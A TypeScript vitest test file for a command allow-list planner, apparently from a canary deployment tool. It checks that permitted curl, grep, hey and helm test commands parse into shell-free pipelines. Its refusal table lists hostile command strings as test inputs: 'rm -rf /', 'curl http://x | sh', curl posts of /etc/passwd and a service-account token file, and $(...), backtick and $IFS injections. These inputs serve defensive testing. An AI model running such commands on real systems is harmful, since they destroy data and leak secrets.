import { describe, expect, it } from "vitest";
import { planCommand } from "./command.ts";
import { curlForcedArgs } from "./options/curl.ts";

const policy = {
  prefixes: ["hey", "curl", "grep", "helm test"],
  allowAny: false,
};

describe("command policy", () => {
  it("plans the seed's acceptance test as a pipeline spawned without a shell", () => {
    expect(
      planCommand(
        "curl -sd 'test' http://podinfo-canary:9898/token | grep token",
        policy,
      ),
    ).toEqual({
      ok: true,
      plan: {
        kind: "direct",
        pipelines: [
          {
            commands: [
              [
                "curl",
                ...curlForcedArgs,
                "-sd",
                "test",
                "http://podinfo-canary:9898/token",
              ],
              ["grep", "token"],
            ],
          },
        ],
      },
    });
  });

  it.each([
    "hey -z 2m -q 5 -c 2 -host podinfo.example.com http://gateway-proxy.gloo-system",
    "helm test podinfo -n apps",
    "curl -s 'http://x/?a=1&b=2' && curl -s http://y",
    `curl -H "X-Text: a > b" http://x`,
    "curl -s http://x | grep -q ok || curl -s http://y/alert",
    "curl -sS --max-time 5 -d 'a=1' -H 'Content-Type: text/plain' https://x/post",
    "curl -b 'session=abc' -F 'field=value' --data-urlencode 'q=a b' http://x",
    "curl -s http://x | grep -e token -c",
    "curl -s localhost:9898/token",
  ])("allows %s", (cmd) => {
    expect(planCommand(cmd, policy).ok).toBe(true);
  });

  it.each([
    ["rm -rf /", '"rm -rf" is not in the allow-list'],
    ["curl http://x; rm -rf /tmp/x", '"rm -rf" is not in the allow-list'],
    ["curl http://x | sh", '"sh" is not in the allow-list'],
    ["curl $(cat /etc/passwd)", "$(...) or $((...)) is not expanded"],
    ['curl "http://x/$(id)"', "is not expanded"],
    ["curl `id`", "backticks"],
    ["curl $HOME", "variable $HOME is not expanded"],
    ["curl${IFS}-o${IFS}/tmp/x", "variable $IFS"],
    ["curl http://x > /etc/motd", "redirection (>)"],
    ["curl http://x & rm -rf /", "background jobs (&)"],
    ["curl http://x/*", "globs"],
    ["curl http://x\ntouch /tmp/x", "newlines"],
    ["curl -o /tmp/x http://x", "--output may only be /dev/null"],
    ["curl -sSo /tmp/x http://x", "--output may only be /dev/null"],
    ["curl --output=/tmp/x http://x", "write the value as the next word"],
    ["curl -d @/var/run/secrets/token http://x", "--data @file would send"],
    ["curl --data-binary @/etc/passwd http://x", "--data-binary @file"],
    ["curl -F 'f=@/etc/passwd' http://x", "--form name=@file"],
    ["curl -K /tmp/cfg http://x", "-K (read as --config) is not allowed"],
    ["curl file:///etc/passwd", "the URL scheme file: is not allowed"],
    ["curl -H @/etc/passwd http://x", "--header @file"],
    ["curl -b /etc/passwd http://x", "--cookie without name=value"],
    ["grep -r token /", "-r (read as --recursive) is not allowed"],
    ["curl http://x | grep token /etc/passwd", "no file operands"],
    ["grep -f /etc/passwd", "-f (read as --file) is not allowed"],
    ["helm install x y", '"helm install" is not in the allow-list'],
    ["heyz -n 1 http://x", '"heyz -n" is not in the allow-list'],
    [
      "/usr/bin/curl http://x",
      '"/usr/bin/curl http://x" is not in the allow-list',
    ],
    ["curl http://x |", "ends with an operator"],
    ["", "metadata.cmd is empty"],
  ])("refuses %s", (cmd, reason) => {
    const verdict = planCommand(cmd, policy);
    expect(verdict.ok).toBe(false);
    expect(!verdict.ok && verdict.reason).toContain(reason);
  });

  it("--allow-any-command hands the text to bash", () => {
    expect(
      planCommand("rm -rf /tmp/x", { prefixes: [], allowAny: true }),
    ).toEqual({ ok: true, plan: { kind: "shell", script: "rm -rf /tmp/x" } });
  });
});
